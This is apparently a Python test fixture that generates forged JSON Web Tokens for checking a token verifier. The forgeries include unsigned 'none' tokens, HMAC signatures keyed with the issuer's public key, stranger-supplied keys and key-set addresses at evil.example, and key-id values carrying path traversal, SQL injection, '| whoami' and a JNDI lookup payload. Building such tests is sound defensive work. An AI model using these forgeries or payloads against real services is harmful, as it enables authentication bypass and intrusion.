"""Tokens that are signed in a way, or with a key, that proves nothing: the shapes of the known advisories.

covers: A05b
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from typing import Any

from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from joserfc.jwk import RSAKey

from tests.fakes.identity_provider import FakeIdentityProvider, signing_key
from tests.inbound.forging import claims_of, compact, fixed, header_of, hmac_signer, issuer_signer, signer

P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


def algorithm_cases(idp: FakeIdentityProvider) -> Iterator[tuple[str, str]]:
    """Everything that is wrong with algorithms, keys and headers."""
    yield from _none(idp)
    yield from _symmetric(idp)
    yield from _names(idp)
    yield from _confusion(idp)
    yield from _brought_along(idp)
    yield from _key_ids(idp)
    yield from _extensions(idp)
    yield from _types(idp)


def _parts(idp: FakeIdentityProvider) -> tuple[dict[str, object], dict[str, object]]:
    good = idp.access_token()
    return header_of(good), claims_of(good)


def _none(idp: FakeIdentityProvider) -> Iterator[tuple[str, str]]:
    header, claims = _parts(idp)
    for name in ("none", "None", "NONE", "nOnE", "noNe", "none ", " none", "none\n", "null", ""):
        yield f"alg {name!r} without a signature", compact(header | {"alg": name}, claims, fixed(b""))
        yield f"alg {name!r} with a right signature", compact(header | {"alg": name}, claims, issuer_signer(idp))
    yield "alg none and no key id", compact({"alg": "none"}, claims, fixed(b""))
    yield "alg none and a signature of one byte", compact({"alg": "none", "typ": "JWT"}, claims, fixed(b"x"))


def _symmetric(idp: FakeIdentityProvider) -> Iterator[tuple[str, str]]:
    header, claims = _parts(idp)
    key = signing_key(idp.keys[0])
    public = key.public_key
    secrets: dict[str, bytes] = {
        "its public key as PEM": public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
        "its public key as PEM without the last line break": public.public_bytes(
            Encoding.PEM, PublicFormat.SubjectPublicKeyInfo
        ).strip(),
        "its public key as DER": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "its public key as JWK": json.dumps(key.as_dict(private=False)).encode(),
        "its public key as JWK, compact": json.dumps(key.as_dict(private=False), separators=(",", ":")).encode(),
        "its modulus": str(key.as_dict(private=False)["n"]).encode(),
        "the key id": str(header["kid"]).encode(),
        "nothing": b"",
        "a NUL": b"\0",
        "the word secret": b"secret",
        "the client": idp.client.encode(),
        "the issuer": idp.issuer.encode(),
    }
    if isinstance(key, RSAKey):
        secrets["its public key as PKCS#1"] = public.public_bytes(Encoding.PEM, PublicFormat.PKCS1)
    for name, secret in secrets.items():
        yield f"HS256 with {name}", compact(header | {"alg": "HS256"}, claims, hmac_signer(secret))
    pem = secrets["its public key as PEM"]
    yield "HS384 with its public key as PEM", compact(header | {"alg": "HS384"}, claims, hmac_signer(pem, 384))
    yield "HS512 with its public key as PEM", compact(header | {"alg": "HS512"}, claims, hmac_signer(pem, 512))
    yield "HS256 that says RS256", compact(header, claims, hmac_signer(pem))
    yield "HS256 in lower case", compact(header | {"alg": "hs256"}, claims, hmac_signer(pem))


def _names(idp: FakeIdentityProvider) -> Iterator[tuple[str, str]]:
    header, claims = _parts(idp)
    right = issuer_signer(idp)
    odd: list[object] = [
        None,
        1,
        True,
        [],
        ["RS256"],
        {},
        {"alg": "RS256"},
        "rs256",
        "RS256 ",
        " RS256",
        "RS256\0",
        "RS256,none",
        "RS",
        "RS25",
        "SHA256",
        "RS1",
        "RS2048",
        "ES256K",
        "EdDSA",
        "RSA-OAEP",
        "A128KW",
        "dir",
        "RSA1_5",
        "PBES2-HS256+A128KW",
        "RS\uff12\uff156",
        "RS256" * 100,
    ]
    for name in odd:
        yield f"alg {json.dumps(name)[:40]}", compact(header | {"alg": name}, claims, right)
    missing = {name: value for name, value in header.items() if name != "alg"}
    yield "no alg", compact(missing, claims, right)
    yield "Alg with a capital", compact(missing | {"Alg": "RS256"}, claims, right)


def _confusion(idp: FakeIdentityProvider) -> Iterator[tuple[str, str]]:
    header, claims = _parts(idp)
    key = signing_key(idp.keys[0])
    for algorithm in ("RS384", "RS512", "PS256", "PS384", "PS512"):
        if isinstance(key, RSAKey):
            yield f"{algorithm} with the key for RS256", compact(header | {"alg": algorithm}, claims, signer(key, algorithm))
        yield f"signed RS256, says {algorithm}", compact(header | {"alg": algorithm}, claims, issuer_signer(idp))
    for algorithm in ("ES256", "ES384", "ES512", "Ed25519"):
        yield f"says {algorithm} of an RSA key", compact(header | {"alg": algorithm}, claims, issuer_signer(idp))
        yield f"says {algorithm}, signature of zeros", compact(header | {"alg": algorithm}, claims, fixed(bytes(64)))
    with_curve = header | {"alg": "ES256", "kid": "ec-1"}
    order = P256_ORDER.to_bytes(32, "big")
    yield "ECDSA with r and s zero", compact(with_curve, claims, fixed(bytes(64)))
    yield "ECDSA with r and s the order", compact(with_curve, claims, fixed(order + order))
    yield "ECDSA with r one and s the order", compact(with_curve, claims, fixed((1).to_bytes(32, "big") + order))
    yield "ECDSA as DER", compact(with_curve, claims, fixed(encode_dss_signature(1, 1)))
    yield "ECDSA of an unknown signer", compact(with_curve, claims, signer(signing_key("ec-stranger"), "ES256"))
    yield "ECDSA on another curve", compact(with_curve, claims, signer(signing_key("es384-1"), "ES384"))
    yield "Ed25519 of zeros", compact(header | {"alg": "Ed25519", "kid": "ed-1"}, claims, fixed(bytes(64)))
    small = b"\x01" + bytes(63)
    yield "Ed25519 with a point of small order", compact(header | {"alg": "Ed25519", "kid": "ed-1"}, claims, fixed(small))
    yield (
        "Ed25519 of an unknown signer",
        compact(header | {"alg": "Ed25519", "kid": "ed-1"}, claims, signer(signing_key("ed-stranger"), "Ed25519")),
    )


def _brought_along(idp: FakeIdentityProvider) -> Iterator[tuple[str, str]]:
    header, claims = _parts(idp)
    stranger = signing_key("stranger")
    jwk = stranger.as_dict(private=False)
    sign = signer(stranger, "RS256")
    certificate = base64.b64encode(stranger.public_key.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)).decode()
    own = {**jwk, "kid": header["kid"]}
    without = {name: value for name, value in header.items() if name != "kid"}
    yield "a stranger's signature", compact(header, claims, sign)
    yield "a stranger's signature and key id", compact(header | {"kid": "stranger"}, claims, sign)
    yield "a stranger's key in the header", compact(header | {"jwk": jwk}, claims, sign)
    yield "a stranger's key under the issuer's name", compact(header | {"jwk": own}, claims, sign)
    yield "a stranger's key and no key id", compact(without | {"jwk": jwk}, claims, sign)
    yield "a stranger's key set's address", compact(header | {"jku": "https://evil.example/jwks"}, claims, sign)
    yield "a key set's address like the issuer's", compact(header | {"jku": f"{idp.jwks_url}@evil.example"}, claims, sign)
    yield "a key set's address on this machine", compact(header | {"jku": "http://127.0.0.1:1/jwks"}, claims, sign)
    yield "a stranger's certificate's address", compact(header | {"x5u": "https://evil.example/cert"}, claims, sign)
    yield "a stranger's certificate", compact(header | {"x5c": [certificate]}, claims, sign)
    yield "a stranger's certificate and no key id", compact(without | {"x5c": [certificate]}, claims, sign)
    yield (
        "all of them",
        compact(
            header | {"jwk": own, "jku": "https://evil.example", "x5u": "https://evil.example", "x5c": [certificate]},
            claims,
            sign,
        ),
    )
    secret = base64.urlsafe_b64encode(b"k" * 32).decode().rstrip("=")
    shared = {"kty": "oct", "k": secret, "kid": header["kid"]}
    yield "a shared key in the header", compact(header | {"alg": "HS256", "jwk": shared}, claims, hmac_signer(b"k" * 32))


def _key_ids(idp: FakeIdentityProvider) -> Iterator[tuple[str, str]]:
    header, claims = _parts(idp)
    right = issuer_signer(idp)
    odd: list[object] = [
        "",
        " ",
        "unknown",
        "../../../../dev/null",
        "/dev/null",
        "' OR '1'='1",
        "1; DROP TABLE keys",
        "1\0",
        "1\n",
        "\u0661",
        "x" * 2000,
        1,
        1.0,
        True,
        [],
        ["1"],
        {},
        {"kid": "1"},
        "https://evil.example/key",
        "| whoami",
        "${jndi:ldap://evil.example}",
    ]
    for name in odd:
        yield f"kid {json.dumps(name)[:40]}", compact(header | {"kid": name}, claims, right)
    for name in ("/dev/null", "../../../../dev/null", ""):
        yield f"kid {name!r} and HS256 of nothing", compact(header | {"alg": "HS256", "kid": name}, claims, hmac_signer(b""))


def _extensions(idp: FakeIdentityProvider) -> Iterator[tuple[str, str]]:
    header, claims = _parts(idp)
    right = issuer_signer(idp)
    criticals: list[Any] = [
        ["exp"],
        ["b64"],
        [],
        ["made-up"],
        "exp",
        None,
        {},
        ["alg"],
        ["kid"],
        ["http://example.com/x"],
        [1],
        [[]],
    ]
    for critical in criticals:
        more = {"crit": critical, "made-up": 1, "exp": 1, "http://example.com/x": 1}
        yield f"crit {json.dumps(critical)}", compact(header | more, claims, right)
    for value in (False, True, None, "false", 0):
        yield f"b64 {json.dumps(value)}", compact(header | {"b64": value}, claims, right)
        yield f"b64 {json.dumps(value)}, critical", compact(header | {"b64": value, "crit": ["b64"]}, claims, right)


def _types(idp: FakeIdentityProvider) -> Iterator[tuple[str, str]]:
    header, claims = _parts(idp)
    right = issuer_signer(idp)
    odd: list[object] = [
        "id+jwt",
        "JWE",
        "JOSE",
        "JOSE+JSON",
        "dpop+jwt",
        "logout+jwt",
        "secevent+jwt",
        "entity-statement+jwt",
        "at+jwt ",
        "at+jwt\0",
        "application/json",
        "text/plain",
        "application/application/jwt",
        "oauth-authz-req+jwt",
        "kb+jwt",
        "vc+sd-jwt",
        "wimse-id+jwt",
        1,
        True,
        [],
        ["JWT"],
        {},
        "token-introspection+jwt",
        "client-authentication+jwt",
    ]
    for name in odd:
        yield f"typ {json.dumps(name)}", compact(header | {"typ": name}, claims, right)
